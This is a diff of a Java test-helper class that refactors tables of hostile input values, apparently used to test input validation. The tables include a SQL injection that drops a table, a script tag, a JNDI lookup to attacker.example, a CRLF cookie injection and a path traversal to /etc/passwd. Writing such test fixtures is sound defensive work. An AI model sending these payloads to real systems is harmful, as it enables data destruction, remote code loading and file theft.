@@ -1,6 +1,7 @@
 package org.shortagewatch.infra.hostile;
 
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
@@ -19,34 +20,33 @@ import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 final class HostileValues {
 
     /** Text an attacker sends, by what it attacks. */
-    static final Map<String, String> INJECTIONS = injections();
+    static final Map<String, String> INJECTIONS = labelled(
+            "SQL injection", "' OR '1'='1'; DROP TABLE audit_log; --",
+            "script injection", "<script>alert(1)</script>",
+            "JNDI lookup", "${jndi:ldap://attacker.example/a}",
+            "CRLF header injection", "x\r\nSet-Cookie: hostile=1",
+            "path traversal", "../../../../etc/passwd");
 
-    /** Characters no text may hold (tab and line breaks may), each with its label. */
-    static final Map<String, String> CONTROLS = controls();
+    /** Characters no text may hold (tab and line breaks may), each with its label, escaped as JSON inside a text. */
+    static final Map<String, String> CONTROLS = labelled(
+            "NUL", "a\\u0000b",
+            "ESC", "a\\u001b[2Jb",
+            "DEL", "a\\u007fb",
+            "C1 NEL", "a\\u0085b",
+            "lone surrogate", "a\\ud800b");
 
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
 
     private HostileValues() {
     }
 
-    private static Map<String, String> injections() {
-        Map<String, String> map = new LinkedHashMap<>();
-        map.put("SQL injection", "' OR '1'='1'; DROP TABLE audit_log; --");
-        map.put("script injection", "<script>alert(1)</script>");
-        map.put("JNDI lookup", "${jndi:ldap://attacker.example/a}");
-        map.put("CRLF header injection", "x\r\nSet-Cookie: hostile=1");
-        map.put("path traversal", "../../../../etc/passwd");
-        return map;
-    }
-
-    private static Map<String, String> controls() {
-        Map<String, String> map = new LinkedHashMap<>();
-        map.put("NUL", "a\\u0000b");
-        map.put("ESC", "a\\u001b[2Jb");
-        map.put("DEL", "a\\u007fb");
-        map.put("C1 NEL", "a\\u0085b");
-        map.put("lone surrogate", "a\\ud800b");
-        return map;
+    /** A table of labels and texts, given in turn, in that order. */
+    private static Map<String, String> labelled(String... labelsAndTexts) {
+        Map<String, String> table = new LinkedHashMap<>();
+        for (int i = 0; i < labelsAndTexts.length; i += 2) {
+            table.put(labelsAndTexts[i], labelsAndTexts[i + 1]);
+        }
+        return Collections.unmodifiableMap(table);
     }
 
     /** Label and raw JSON text of every wrong value for a field of {@code schema} whose base value is {@code base}. */
